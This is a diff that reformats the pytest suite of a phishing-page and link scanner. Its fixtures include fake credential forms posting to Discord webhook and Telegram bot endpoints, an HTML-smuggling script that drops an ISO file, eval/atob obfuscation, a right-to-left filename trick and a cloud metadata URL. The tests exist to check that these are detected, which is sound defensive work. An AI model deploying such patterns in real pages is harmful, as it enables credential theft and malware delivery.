@@ -22,51 +22,74 @@ def _names(html: str, url: str = "https://pages.example.net/x") -> set[str]:
 
 
 def test_credential_form_to_webhook_and_brand_on_foreign_host() -> None:
-    html = ("<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://discord.com/api/webhooks/1/x'>"
-            "<label>Password</label><input type=password></form>")
+    html = (
+        "<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://discord.com/api/webhooks/1/x'>"
+        "<label>Password</label><input type=password></form>"
+    )
     names = _names(html)
     assert {"page_password_field", "page_form_exfil_endpoint", "page_brand_login_foreign"} <= names
 
 
 def test_real_brand_page_on_brand_host_is_quiet() -> None:
-    html = ("<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://www.paypal.com/signin'>"
-            "<label>Password</label><input type=password></form><a href='/a'>a</a><a href='/b'>b</a><a href='/c'>c</a>")
+    html = (
+        "<title>Sign in to PayPal</title><h1>PayPal</h1><form action='https://www.paypal.com/signin'>"
+        "<label>Password</label><input type=password></form><a href='/a'>a</a><a href='/b'>b</a><a href='/c'>c</a>"
+    )
     assert _names(html, "https://www.paypal.com/signin") == {"page_password_field"}
 
 
 def test_obfuscation_smuggling_rtl_iframe_and_kit_markers() -> None:
     assert "page_obfuscated_script" in _names("<script>document.write(unescape('%3Cform%3E'))</script>")
     assert "page_obfuscated_script" in _names("<script>eval(atob('YWxlcnQoMSk='))</script>")
-    smuggle = ("<script>var b=new Blob([d],{type:'application/octet-stream'});var a=document.createElement('a');"
-               "a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()</script>")
+    smuggle = (
+        "<script>var b=new Blob([d],{type:'application/octet-stream'});var a=document.createElement('a');"
+        "a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()</script>"
+    )
     assert "page_html_smuggling" in _names(smuggle)
     assert "page_rtl_override" in _names("<p>invoice\u202efdp.exe</p>")
     assert "page_hidden_iframe" in _names("<iframe src='https://x.example.org/' width=0 height=0></iframe>")
     assert "page_kit_marker" in _names("<!-- antibot --><script src='https://api.ipify.org'></script>")
-    assert "page_meta_redirect" in _names("<meta http-equiv='refresh' content='0;url=https://next.example.org/'>")
+    assert "page_meta_redirect" in _names(
+        "<meta http-equiv='refresh' content='0;url=https://next.example.org/'>"
+    )
 
 
 def test_encoded_page_is_decoded_before_the_rules() -> None:
     import base64
 
-    inner = base64.b64encode(b"<form action='https://api.telegram.org/bot1/sendMessage'>"
-                             b"<input type='password'></form>" + b" " * 200).decode()
+    inner = base64.b64encode(
+        b"<form action='https://api.telegram.org/bot1/sendMessage'>"
+        b"<input type='password'></form>" + b" " * 200
+    ).decode()
     names = _names(f"<script>document.write(atob('{inner}'))</script>")
     assert {"page_obfuscated_script", "page_password_field", "page_form_exfil_endpoint"} <= names
 
 
-@pytest.mark.parametrize("url", [
-    "https://app.example.com/auth/v1/verify?token=abc&type=magiclink",
-    "https://accounts.example.com/reset-password?t=1", "https://news.example.com/unsubscribe?u=9",
-    "https://outlook.example.com/calendar/item?action=accept", "https://x.example.com/email/verify/abc",
-    "https://x.example.com/invite/aZ3k9Qx7LmP2vR8tY6wN4bC1", "https://x.example.com/approve/123",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://app.example.com/auth/v1/verify?token=abc&type=magiclink",
+        "https://accounts.example.com/reset-password?t=1",
+        "https://news.example.com/unsubscribe?u=9",
+        "https://outlook.example.com/calendar/item?action=accept",
+        "https://x.example.com/email/verify/abc",
+        "https://x.example.com/invite/aZ3k9Qx7LmP2vR8tY6wN4bC1",
+        "https://x.example.com/approve/123",
+    ],
+)
 def test_single_use_links(url: str) -> None:
     assert single_use(url) is not None
 
 
-@pytest.mark.parametrize("url", ["https://www.example.com/", "https://en.wikipedia.org/wiki/Cat",
-                                 "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://example.com/login"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.example.com/",
+        "https://en.wikipedia.org/wiki/Cat",
+        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
+        "https://example.com/login",
+    ],
+)
 def test_ordinary_links_are_not_single_use(url: str) -> None:
     assert single_use(url) is None
 
@@ -75,19 +98,33 @@ def test_scanner_classification() -> None:
     person = {"user-agent": "Mozilla/5.0 Chrome/126", "accept-language": "en"}
     assert not classify("GET", person, issued_at=0, now=1e9).is_scanner
     assert classify("HEAD", person, issued_at=0, now=1e9).signals == ("scanner_head_request",)
-    assert "scanner_user_agent" in classify("GET", {"user-agent": "Barracuda Sentinel", "accept-language": "en"},
-                                            issued_at=0, now=1e9).signals
+    assert (
+        "scanner_user_agent"
+        in classify(
+            "GET", {"user-agent": "Barracuda Sentinel", "accept-language": "en"}, issued_at=0, now=1e9
+        ).signals
+    )
     assert "scanner_at_delivery" in classify("GET", person, issued_at=1000, now=1001).signals
-    assert "scanner_message_burst" in classify("GET", person, issued_at=0, now=1e9, message_burst=True).signals
-    assert "scanner_no_accept_language" in classify("GET", {"user-agent": "Mozilla/5.0"}, issued_at=0,
-                                                    now=1e9).signals
+    assert (
+        "scanner_message_burst" in classify("GET", person, issued_at=0, now=1e9, message_burst=True).signals
+    )
+    assert (
+        "scanner_no_accept_language"
+        in classify("GET", {"user-agent": "Mozilla/5.0"}, issued_at=0, now=1e9).signals
+    )
 
 
 def test_check_url_cli_contract(site) -> None:  # type: ignore[no-untyped-def]
     env = dict(os.environ, TAP365_SCAN_ALLOW_NETWORKS="127.0.0.0/8,::1/128")
     urls = [site.url("/phish/cli"), site.url("/reset-password?t=1"), "http://169.254.169.254/latest/"]
-    out = subprocess.run([sys.executable, "-m", "connectors.click_cli", "check-url", *urls, "--json"],
-                         capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
+    out = subprocess.run(
+        [sys.executable, "-m", "connectors.click_cli", "check-url", *urls, "--json"],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=env,
+        timeout=120,
+    )
     assert out.returncode == 0, out.stderr
     lines = [json.loads(line) for line in out.stdout.splitlines()]
     assert [set(x) for x in lines] == [{"url", "verdict", "reasons", "final_url", "fetched"}] * 3
